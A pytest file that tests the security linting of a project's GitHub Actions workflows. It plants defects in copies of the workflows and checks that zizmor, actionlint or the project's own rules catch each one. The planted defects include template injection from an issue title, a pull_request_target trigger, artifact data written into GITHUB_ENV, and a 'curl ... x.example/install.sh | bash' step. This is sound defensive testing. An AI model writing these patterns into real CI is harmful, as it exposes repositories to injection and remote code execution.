"""The workflows are judged by others' programs and by us, and each planted defect is seen by the one named."""

from __future__ import annotations

import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

judges = sys.modules["github_judges"]
ROOT = Path(__file__).parents[2]


@pytest.mark.parametrize("judge", judges.JUDGES)
def test_nothing_is_found_in_the_workflows_and_forms(judge: str) -> None:
    assert judges.JUDGES[judge](ROOT) == ""


def test_there_is_something_to_judge() -> None:
    names = {path.stem for path in (ROOT / ".github" / "workflows").glob("*.yml")}
    assert names == {
        *("check", "comment", "intake", "toimi", "number-and-publish", "reminders", "tool"),
    }
    assert len(list((ROOT / ".github" / "ISSUE_TEMPLATE").glob("*.yml"))) > 1


@dataclass(frozen=True, slots=True, kw_only=True)
class Defect:
    """A change that somebody might make in good faith: in which file, what becomes what, and who sees it."""

    file: str
    old: str
    new: str
    judge: str
    told: str


RUN = "run: ./kirjuri reply"
DEFECTS = {
    "the title of an issue in a command": Defect(
        file="intake",
        old=RUN,
        new='run: ./kirjuri reply "${{ github.event.issue.title }}"',
        judge="zizmor",
        told="template-injection",
    ),
    "the branch name of a fork in a command": Defect(
        file="check",
        old='--actor "$ACTOR" --format github',
        new='--actor "${{ github.head_ref }}" --format github',
        judge="actionlint",
        told="potentially untrusted",
    ),
    "a number of the event in a command, harmless today": Defect(
        file="intake",
        old=RUN,
        new="run: ./kirjuri reply ${{ github.run_number }}",
        judge="ours",
        told="an expression inside a command",
    ),
    "all rights for every job": Defect(
        file="reminders",
        old="permissions: {}",
        new="permissions: write-all",
        judge="zizmor",
        told="excessive-permissions",
    ),
    "no rights named at the top": Defect(
        file="reminders",
        old="permissions: {}\n",
        new="",
        judge="ours",
        told="permissions at the top must be {}",
    ),
    "a job that takes what the top gives": Defect(
        file="intake",
        old="    permissions:\n      contents: read # check out the tool\n      issues: write # answer in the thread\n",
        new="",
        judge="ours",
        told="no permissions of its own",
    ),
    "a right without its reason": Defect(
        file="intake",
        old="contents: write # push the branch of the record",
        new="contents: write",
        judge="zizmor",
        told="undocumented-permissions",
    ),
    "an action by a tag that can move": Defect(
        file="intake",
        old="actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
        new="actions/checkout@v7",
        judge="zizmor",
        told="unpinned-uses",
    ),
    "an action of somebody else, pinned": Defect(
        file="intake",
        old="actions/setup-python@5fda3b95a4ea91299a34e894583c3862153e4b97 # v7.0.0",
        new="joku/asenna@5fda3b95a4ea91299a34e894583c3862153e4b97 # v7.0.0",
        judge="ours",
        told="no action of the platform's own",
    ),
    "credentials left in the clone": Defect(
        file="comment",
        old="          persist-credentials: false\n",
        new="",
        judge="zizmor",
        told="artipacked",
    ),
    "rights for what a fork wrote": Defect(
        file="check",
        old="  pull_request:\n",
        new="  pull_request_target:\n",
        judge="zizmor",
        told="dangerous-triggers",
    ),
    "the proposal checked out where one can write": Defect(
        file="comment",
        old="          fetch-depth: 0\n",
        new="          ref: ${{ github.event.workflow_run.head_sha }}\n          fetch-depth: 0\n",
        judge="ours",
        told="what is proposed is checked out in a job that can write",
    ),
    "a check of who acts by name": Defect(
        file="intake",
        old="if: github.event.action != 'labeled'",
        new="if: github.actor == 'dependabot[bot]'",
        judge="zizmor",
        told="bot-conditions",
    ),
    "a condition that is always true": Defect(
        file="intake",
        old="if: github.event.action != 'labeled'",
        new="if: |\n      ${{ github.event.action != 'labeled' }}\n",
        judge="zizmor",
        told="unsound-condition",
    ),
    "a cache in a run that publishes": Defect(
        file="number-and-publish",
        old='          python-version: "3.13"\n',
        new='          python-version: "3.13"\n          cache: pip\n',
        judge="ours",
        told="a cache can be poisoned",
    ),
    "a job without a time limit": Defect(
        file="reminders",
        old="    timeout-minutes: 10\n",
        new="",
        judge="ours",
        told="no time limit",
    ),
    "runs that overtake one another": Defect(
        file="number-and-publish",
        old="concurrency:\n  group: number-and-publish\n  cancel-in-progress: false\n",
        new="",
        judge="ours",
        told="no concurrency",
    ),
    "a program from the web": Defect(
        file="tool",
        old="run: .ci/run",
        new="run: curl -s https://x.example/install.sh | bash",
        judge="ours",
        told="not one command of ours",
    ),
    "logic in a step": Defect(
        file="reminders",
        old="run: ./kirjuri remind",
        new="run: ./kirjuri remind || ./kirjuri queue",
        judge="ours",
        told="not one command of ours",
    ),
    "the environment of later steps from an artifact": Defect(
        file="comment",
        old='run: ./kirjuri comment --report "$RUNNER_TEMP/report"',
        new='run: cat "$RUNNER_TEMP/report/env" >> "$GITHUB_ENV"',
        judge="zizmor",
        told="github-env",
    ),
    "a misspelt key": Defect(
        file="toimi",
        old="    runs-on: ubuntu-latest",
        new="    runs_on: ubuntu-latest",
        judge="schema",
        told="runs_on",
    ),
    "a job that waits for one that is not there": Defect(
        file="number-and-publish",
        old="    needs: build",
        new="    needs: site",
        judge="actionlint",
        told='needs job "site"',
    ),
    "an output that no job gives": Defect(
        file="number-and-publish",
        old="needs.build.outputs.artifact",
        new="needs.build.outputs.artefact",
        judge="actionlint",
        told='property "artefact" is not defined',
    ),
    "a schedule that never comes": Defect(
        file="reminders",
        old='cron: "17 4 * * 1-5"',
        new='cron: "17 25 * * 1-5"',
        judge="actionlint",
        told="invalid CRON format",
    ),
    "an event that does not exist": Defect(
        file="intake",
        old="types: [opened, edited, labeled]",
        new="types: [opened, edited, labelled]",
        judge="actionlint",
        told='invalid activity type "labelled"',
    ),
    "an option of a form twice": Defect(
        file="../ISSUE_TEMPLATE/palaute.fi",
        old="labels: [palaute]",
        new="labels: [palaute, palaute]",
        judge="schema",
        told="non-unique",
    ),
}


@pytest.mark.parametrize("name", DEFECTS)
def test_a_planted_defect_is_seen(name: str, tmp_path: Path) -> None:
    defect = DEFECTS[name]
    shutil.copytree(ROOT / ".github", tmp_path / ".github")
    path = tmp_path / ".github" / "workflows" / f"{defect.file}.yml"
    text = path.read_text("utf-8")
    assert defect.old in text
    path.write_text(text.replace(defect.old, defect.new), "utf-8")

    assert defect.told in judges.JUDGES[defect.judge](tmp_path)
